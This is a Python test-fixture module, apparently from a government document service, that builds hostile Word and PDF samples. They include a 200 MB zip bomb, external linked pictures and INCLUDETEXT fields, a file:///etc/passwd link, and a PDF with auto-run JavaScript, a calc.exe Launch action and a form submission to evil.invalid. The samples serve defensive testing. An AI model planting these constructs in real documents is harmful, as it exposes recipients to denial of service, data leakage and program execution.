"""Hostile and odd papers from other agencies, built in memory: Word files that unpack to far
more than they weigh, have no section properties or an empty body, link pictures and files from
outside, include files through fields; PDFs that run JavaScript, launch programs, carry files.
"""

from __future__ import annotations

import io
import re
import zipfile
from collections.abc import Callable

import docx
from pypdf import PdfWriter
from pypdf.generic import (
    ArrayObject,
    DictionaryObject,
    FloatObject,
    NameObject,
    NumberObject,
    TextStringObject,
)

R_NS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
RELS = "word/_rels/document.xml.rels"
IMAGE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/image"
HYPERLINK = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink"
TEMPLATE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"


def word_paper(text: str = "A paper from another agency") -> bytes:
    document = docx.Document()
    document.add_paragraph(text)
    buffer = io.BytesIO()
    document.save(buffer)
    return buffer.getvalue()


def rewrite(
    data: bytes, changes: dict[str, Callable[[str], str]], extra: dict[str, bytes] | None = None
) -> bytes:
    """``data`` (a .docx) with some parts' text changed and parts added."""
    source = zipfile.ZipFile(io.BytesIO(data))
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            content = source.read(info.filename)
            if info.filename in changes:
                content = changes[info.filename](content.decode("utf-8")).encode("utf-8")
            target.writestr(info, content)
        for name, content in (extra or {}).items():
            target.writestr(name, content)
    return buffer.getvalue()


def without_section_properties(data: bytes) -> bytes:
    return rewrite(
        data,
        {"word/document.xml": lambda xml: re.sub(r"<w:sectPr.*?</w:sectPr>", "", xml, flags=re.S)},
    )


def with_empty_body(data: bytes) -> bytes:
    return rewrite(
        data,
        {
            "word/document.xml": lambda xml: re.sub(
                r"<w:body>.*</w:body>", "<w:body/>", xml, flags=re.S
            )
        },
    )


def _relationship(rid: str, kind: str, target: str) -> str:
    return f'<Relationship Id="{rid}" Type="{kind}" Target="{target}" TargetMode="External"/>'


def _before_section(xml: str, paragraphs: str) -> str:
    return xml.replace("<w:sectPr", paragraphs + "<w:sectPr", 1)


def _linked_picture(rid: str) -> str:
    return (
        '<w:p><w:r><w:drawing><wp:inline xmlns:wp="http://schemas.openxmlformats.org/drawingml/'
        '2006/wordprocessingDrawing"><wp:extent cx="914400" cy="914400"/><wp:docPr id="90" '
        'name="Linked"/><a:graphic xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main">'
        '<a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic '
        'xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:nvPicPr>'
        '<pic:cNvPr id="90" name="Linked"/><pic:cNvPicPr/></pic:nvPicPr><pic:blipFill>'
        f'<a:blip xmlns:r="{R_NS}" r:link="{rid}"/><a:stretch><a:fillRect/></a:stretch>'
        '</pic:blipFill><pic:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="914400" cy="914400"/>'
        '</a:xfrm><a:prstGeom prst="rect"><a:avLst/></a:prstGeom></pic:spPr></pic:pic>'
        "</a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>"
    )


def _field(instruction: str, shown: str) -> str:
    return (
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        f'<w:r><w:instrText xml:space="preserve"> {instruction} </w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="separate"/></w:r>'
        f"<w:r><w:t>{shown}</w:t></w:r>"
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )


def _hyperlink(rid: str, text: str) -> str:
    return (
        f'<w:p><w:hyperlink xmlns:r="{R_NS}" r:id="{rid}"><w:r><w:t>{text}</w:t></w:r>'
        "</w:hyperlink></w:p>"
    )


def reaching_outside(data: bytes, url: str) -> bytes:
    """``data`` with a linked picture at ``url``, INCLUDEPICTURE and INCLUDETEXT fields for it,
    a hyperlink to a local file, a web hyperlink and an attached template on a share."""
    paragraphs = (
        _linked_picture("rId90")
        + _field(f'INCLUDEPICTURE "{url}field.png" \\d', "[picture from the field]")
        + _field(f'INCLUDETEXT "{url}text.docx"', "Text shown by the INCLUDETEXT field")
        + _hyperlink("rId91", "the local file link")
        + _hyperlink("rId92", "the web link")
    )
    relationships = (
        _relationship("rId90", IMAGE, url + "picture.png")
        + _relationship("rId91", HYPERLINK, "file:///etc/passwd")
        + _relationship("rId92", HYPERLINK, "https://www.gov.uk/")
    )
    return rewrite(
        data,
        {
            "word/document.xml": lambda xml: _before_section(xml, paragraphs),
            RELS: lambda xml: xml.replace("</Relationships>", relationships + "</Relationships>"),
        },
    )


def with_attached_template(data: bytes, target: str) -> bytes:
    relationship = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        + _relationship("rId1", TEMPLATE, target)
        + "</Relationships>"
    )
    return rewrite(
        data,
        {
            "word/settings.xml": lambda xml: re.sub(
                r"(<w:settings[^>]*>)",
                rf'\1<w:attachedTemplate xmlns:r="{R_NS}" r:id="rId1"/>',
                xml,
                count=1,
            )
        },
        extra={"word/_rels/settings.xml.rels": relationship.encode("utf-8")},
    )


def zip_bomb(data: bytes, unpacked_mb: int = 200) -> bytes:
    """``data`` plus a "picture" that unpacks to ``unpacked_mb`` MB of zeros (about 200 KB
    packed), written a megabyte at a time so the test itself never holds it."""
    buffer = io.BytesIO(data)
    with zipfile.ZipFile(buffer, "a", zipfile.ZIP_DEFLATED) as archive:
        info = zipfile.ZipInfo("word/media/image99.png")
        info.compress_type = zipfile.ZIP_DEFLATED
        with archive.open(info, "w", force_zip64=True) as part:
            block = b"\0" * (1024 * 1024)
            for _ in range(unpacked_mb):
                part.write(block)
    return buffer.getvalue()


def many_parts(data: bytes, count: int) -> bytes:
    buffer = io.BytesIO(data)
    with zipfile.ZipFile(buffer, "a", zipfile.ZIP_STORED) as archive:
        for number in range(count):
            archive.writestr(f"customXml/part{number}.xml", b"<a/>")
    return buffer.getvalue()


# --- PDFs -------------------------------------------------------------------------------------


def _action(kind: str, **entries: object) -> DictionaryObject:
    action = DictionaryObject({NameObject("/S"): NameObject(kind)})
    for key, value in entries.items():
        action[NameObject(f"/{key}")] = value  # type: ignore[assignment]
    return action


def _link(writer: PdfWriter, action: DictionaryObject, box: tuple[int, int, int, int]) -> object:
    return writer._add_object(
        DictionaryObject(
            {
                NameObject("/Type"): NameObject("/Annot"),
                NameObject("/Subtype"): NameObject("/Link"),
                NameObject("/Rect"): ArrayObject([FloatObject(n) for n in box]),
                NameObject("/Border"): ArrayObject([NumberObject(0)] * 3),
                NameObject("/A"): action,
            }
        )
    )


def active_pdf() -> bytes:
    """A one-page PDF that runs JavaScript on opening (document and page), launches a program
    from a link, submits a form, carries an embedded file and a file attachment annotation, and
    links to a web page and to its own first page."""
    writer = PdfWriter()
    page = writer.add_blank_page(width=595, height=842)
    writer.add_attachment("payload.exe", b"MZ not really a program")
    names = writer._root_object["/Names"].get_object()
    names[NameObject("/JavaScript")] = DictionaryObject(
        {
            NameObject("/Names"): ArrayObject(
                [
                    TextStringObject("startup"),
                    writer._add_object(
                        _action("/JavaScript", JS=TextStringObject("app.alert('document');"))
                    ),
                ]
            )
        }
    )
    writer._root_object[NameObject("/OpenAction")] = _action(
        "/JavaScript", JS=TextStringObject("app.alert('on opening');")
    )
    page[NameObject("/AA")] = DictionaryObject(
        {NameObject("/O"): _action("/JavaScript", JS=TextStringObject("app.alert('page');"))}
    )
    attachment = writer._add_object(
        DictionaryObject(
            {
                NameObject("/Type"): NameObject("/Annot"),
                NameObject("/Subtype"): NameObject("/FileAttachment"),
                NameObject("/Rect"): ArrayObject([FloatObject(n) for n in (10, 10, 30, 30)]),
            }
        )
    )
    page[NameObject("/Annots")] = ArrayObject(
        [
            _link(writer, _action("/Launch", F=TextStringObject("calc.exe")), (50, 700, 200, 720)),
            _link(
                writer,
                _action("/SubmitForm", F=TextStringObject("https://evil.invalid/")),
                (50, 650, 200, 670),
            ),
            _link(
                writer,
                _action("/URI", URI=TextStringObject("https://www.gov.uk/")),
                (50, 600, 200, 620),
            ),
            _link(
                writer,
                _action("/GoTo", D=ArrayObject([page.indirect_reference, NameObject("/Fit")])),
                (50, 550, 200, 570),
            ),
            attachment,
        ]
    )
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()
